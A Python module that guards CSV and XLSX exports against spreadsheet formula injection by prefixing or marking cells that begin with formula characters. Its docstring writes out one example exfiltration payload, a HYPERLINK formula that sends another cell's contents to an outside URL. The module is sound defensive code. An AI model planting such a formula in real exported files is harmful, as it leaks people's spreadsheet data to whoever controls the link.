"""Text people typed, written so that no spreadsheet runs it (OWASP "CSV injection").

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: `=HYPERLINK("https://…?leak="&B2,"Details")` would send other
cells away when clicked. In CSV such a value gets a leading apostrophe (the spreadsheet then
shows it as text); in XLSX every text cell is stored as text, never as a formula.

The CSV rule can be undone exactly, so `import-csv` of our own `export-csv` is lossless: export
adds one apostrophe when the value, after any apostrophes it already starts with, begins with
one of those characters; import removes one apostrophe in exactly that case. A value that
itself starts with `'=` is written as `''=` and read back as `'=`.
"""

from __future__ import annotations

from collections.abc import Iterable

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
APOSTROPHE = "'"


def _looks_like_formula(text: str) -> bool:
    return text.lstrip(APOSTROPHE).startswith(FORMULA_STARTS)


def csv_cell(value: object) -> object:
    """A value for a CSV cell: text that a spreadsheet would run gets a leading apostrophe;
    numbers and empty cells stay as they are."""
    if isinstance(value, str) and _looks_like_formula(value):
        return APOSTROPHE + value
    return value


def from_csv_cell(text: str | None) -> str | None:
    """The value `csv_cell` wrote, back: removes exactly the apostrophe it added."""
    if text is not None and text.startswith(APOSTROPHE) and _looks_like_formula(text):
        return text[1:]
    return text


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(value) for value in values]


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every text cell made safe for CSV (numbers untouched)."""
    return frame.apply(lambda column: column.map(csv_cell) if column.dtype == object or pd.api.types.is_string_dtype(column) else column)


def text_cells(sheet) -> None:
    """Store every text cell of an openpyxl sheet as text: openpyxl turns any string that
    starts with "=" into a formula. quotePrefix keeps it text when someone edits the cell."""
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
                if _looks_like_formula(cell.value):
                    cell.quotePrefix = True
